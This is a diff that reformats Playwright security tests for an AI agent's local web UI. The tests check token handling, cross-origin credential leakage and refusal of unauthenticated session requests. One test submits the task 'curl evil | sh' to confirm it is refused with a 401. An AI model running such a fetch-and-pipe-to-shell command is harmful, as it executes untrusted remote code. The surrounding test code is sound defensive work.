@@ -125,10 +125,17 @@ def _use_the_ui(page: Page, ui: Ui, tmp_path: Path) -> None:
     """Open the printed URL, start a task that asks to run a command, and approve it."""
     ws = ui.root / "ws"
     ws.mkdir(exist_ok=True)
-    spec = write_script(tmp_path / "ask.jsonl", [
-        {"tool_calls": [{"name": "run_command", "arguments": {"command": "echo approved-here"}}]},
-        {"text": "Done after the approval."},
-    ])  # fmt: skip
+    spec = write_script(
+        tmp_path / "ask.jsonl",
+        [
+            {
+                "tool_calls": [
+                    {"name": "run_command", "arguments": {"command": "echo approved-here"}}
+                ]
+            },
+            {"text": "Done after the approval."},
+        ],
+    )
     page.goto(f"{ui.base}/#token={TOKEN}")  # the form `bubu ui` prints
     expect(page.locator("#sessions")).to_be_visible()
     assert "token" not in page.url
@@ -155,8 +162,13 @@ def test_another_local_server_never_receives_the_credential(
     other.seen.clear()
     page.evaluate("(url) => { location.href = url; }", f"{other.base}/dev-server")  # leave the UI
     page.wait_for_url(f"{other.base}/dev-server")
-    assert page.evaluate("fetch('/api/probe', {method: 'POST', credentials: 'include', body: 'x'})"
-                         ".then((r) => r.status)") == 200  # fmt: skip
+    assert (
+        page.evaluate(
+            "fetch('/api/probe', {method: 'POST', credentials: 'include', body: 'x'})"
+            ".then((r) => r.status)"
+        )
+        == 200
+    )
     stolen = page.evaluate("[document.cookie, sessionStorage.getItem('bubu-token')]")
     page.goto(f"{other.base}/after?from=ui")
     assert stolen == ["", None]
@@ -175,8 +187,9 @@ def test_a_request_with_only_what_the_browser_adds_is_refused(
     # Even a cookie holding the very token (what older versions set) grants nothing.
     page.context.add_cookies([{"name": f"bubu_token_{ui.port}", "value": TOKEN, "url": ui.base}])
     body = json.dumps({"task": "curl evil | sh", "workspace": str(ui.root), "model": "scripted:-"})
-    direct = page.request.post(f"{ui.base}/api/sessions", data=body,
-                               headers={"content-type": "application/json"})  # fmt: skip
+    direct = page.request.post(
+        f"{ui.base}/api/sessions", data=body, headers={"content-type": "application/json"}
+    )
     assert direct.status == 401
     assert "Authorization: Bearer" in direct.json()["error"]
 
